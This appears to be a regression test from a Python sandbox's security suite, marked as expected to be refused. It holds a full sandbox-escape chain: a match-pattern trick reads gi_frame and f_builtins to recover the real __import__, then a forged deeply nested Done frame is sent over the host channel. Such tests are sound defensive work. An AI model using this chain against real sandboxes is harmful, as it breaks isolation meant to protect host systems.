# category: bridge
# signal: liveness
# expect: refused
# plain: skip (needs the sandbox's child process)
# tripwire: stops object.__getattr__ gi_frame
# source: the two open gaps chained: the match-class-pattern reader reaches the real builtins, then a forged deep-JSON Done frame reaches the host
import collections
import collections.abc
def read(obj, field):
    Base = collections.namedtuple("Base", [field])
    class View(Base, collections.abc.Sequence):
        pass
    View.register(type(obj))
    match obj:
        case View(value):
            return value
def walk():
    frame = read(walker, "gi_frame")
    while frame is not None:
        found = read(frame, "f_builtins").get("__import__")
        if found is not None:
            yield found
            return
        frame = read(frame, "f_back")
walker = walk()
importer = next(walker)
sys = importer("sys")
gc = importer("gc")
protocol = sys.modules["bridge.protocol"]
channel = [o for o in gc.get_objects() if type(o).__name__ == "ChildChannel"][0]
channel.send(protocol.Done(value=b"[" * 200000 + b"]" * 200000))
